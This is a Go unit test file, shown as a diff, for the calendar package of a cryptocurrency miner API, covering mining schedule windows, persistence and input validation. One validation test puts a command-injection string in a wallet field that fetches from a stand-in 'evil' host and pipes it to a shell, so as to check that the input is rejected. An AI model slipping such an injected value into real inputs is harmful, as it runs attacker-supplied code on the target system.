@@ -0,0 +1,101 @@
+//go:build unit
+
+package calendar_test
+
+import (
+	"path/filepath"
+	"testing"
+	"time"
+
+	"github.com/squarefactory/miner-api/calendar"
+	"github.com/squarefactory/miner-api/cron"
+	"github.com/stretchr/testify/suite"
+)
+
+type CalendarTestSuite struct {
+	suite.Suite
+	path string
+}
+
+func (suite *CalendarTestSuite) BeforeTest(suiteName, testName string) {
+	suite.path = filepath.Join(suite.T().TempDir(), "schedules.json")
+}
+
+var weeknights = calendar.Window{
+	Name:     "weeknights",
+	Schedule: *cron.MustParse("* 20-23,0-6 * * 1-5"),
+	Usage:    100,
+	Wallet:   "wallet",
+}
+
+func (suite *CalendarTestSuite) TestActive() {
+	// Arrange
+	store, err := calendar.Open(suite.path, []calendar.Window{weeknights})
+	suite.Require().NoError(err)
+	suite.Require().NoError(store.Put(calendar.Window{
+		Name:     "weekends",
+		Schedule: *cron.MustParse("* * * * 0,6"),
+		Usage:    80,
+		Algo:     "kawpow",
+	}))
+
+	// Act
+	night, nightOK := store.Active(time.Date(2023, 5, 1, 22, 0, 0, 0, time.Local))
+	_, dayOK := store.Active(time.Date(2023, 5, 1, 12, 0, 0, 0, time.Local))
+	weekend, weekendOK := store.Active(time.Date(2023, 5, 6, 12, 0, 0, 0, time.Local))
+
+	// Assert
+	suite.True(nightOK)
+	suite.Equal("weeknights", night.Name)
+	suite.Equal(calendar.SourceConfig, night.Source)
+	suite.False(dayOK)
+	suite.True(weekendOK)
+	suite.Equal(80.0, weekend.Usage)
+	suite.Equal("kawpow", weekend.Algo)
+}
+
+func (suite *CalendarTestSuite) TestPersistence() {
+	// Arrange
+	store, err := calendar.Open(suite.path, []calendar.Window{weeknights})
+	suite.Require().NoError(err)
+	weekends := calendar.Window{Name: "weekends", Schedule: *cron.MustParse("* * * * 0,6"), Usage: 80}
+	suite.Require().NoError(store.Put(weekends))
+	suite.Require().NoError(store.Put(calendar.Window{Name: "lunch", Schedule: *cron.MustParse("* 12 * * *"), Usage: 50}))
+
+	// Act
+	errDelete := store.Delete("lunch")
+	errReadOnly := store.Delete("weeknights")
+	errNotFound := store.Delete("lunch")
+	reopened, errOpen := calendar.Open(suite.path, []calendar.Window{weeknights})
+
+	// Assert
+	suite.NoError(errDelete)
+	suite.ErrorIs(errReadOnly, calendar.ErrReadOnly)
+	suite.ErrorIs(errNotFound, calendar.ErrNotFound)
+	suite.NoError(errOpen)
+	windows := reopened.List()
+	suite.Len(windows, 2)
+	suite.Equal("weekends", windows[1].Name)
+	suite.Equal("* * * * 0,6", windows[1].Schedule.String())
+	suite.Equal(calendar.SourceAPI, windows[1].Source)
+}
+
+func (suite *CalendarTestSuite) TestPutInvalid() {
+	// Arrange
+	store, err := calendar.Open("", nil)
+	suite.Require().NoError(err)
+
+	// Act
+	errUsage := store.Put(calendar.Window{Name: "x", Schedule: *cron.MustParse("* * * * *"), Usage: 150})
+	errSchedule := store.Put(calendar.Window{Name: "x", Usage: 50})
+	errWallet := store.Put(calendar.Window{Name: "x", Schedule: *cron.MustParse("* * * * *"), Usage: 50, Wallet: "x;curl${IFS}evil|sh"})
+
+	// Assert
+	suite.Error(errUsage)
+	suite.Error(errSchedule)
+	suite.Error(errWallet)
+}
+
+func TestCalendarTestSuite(t *testing.T) {
+	suite.Run(t, new(CalendarTestSuite))
+}